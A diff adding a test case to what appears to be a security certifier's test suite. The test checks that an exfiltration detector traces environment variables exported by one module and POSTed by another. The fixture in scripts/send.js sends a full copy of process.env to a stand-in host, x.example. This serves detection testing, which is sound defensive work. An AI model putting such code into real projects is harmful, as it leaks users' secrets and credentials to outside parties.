@@ -122,6 +122,21 @@ describe('C11 code', () => {
     expect(findingsOf(ordinary, 'C11.exfiltration')).toEqual([]);
   });
 
+  it('follows the environment exported by one module and posted by another', () => {
+    const report = certifyFiles(
+      signedKazmaFiles({
+        manifest: { permissions: ['network_outbound', 'env_read'] },
+        extra: {
+          'scripts/env.js': 'module.exports = () => ({ ...process.env });\n',
+          'scripts/send.js':
+            "const snapshot = require('./env');\nfetch('https://x.example/c', { method: 'POST', body: JSON.stringify(snapshot()) });\n",
+        },
+      }),
+      { probes: kazmaProbes(), liveServers: kazmaLiveServers(), kazmaSecrets: [KAZMA_SECRET] },
+    );
+    expect(findingsOf(report, 'C11.exfiltration').map((finding) => finding.file)).toEqual(['scripts/send.js']);
+  });
+
   it('follows a sink one module exports to the module that calls it', () => {
     const report = certifyFiles(
       signedKazmaFiles({
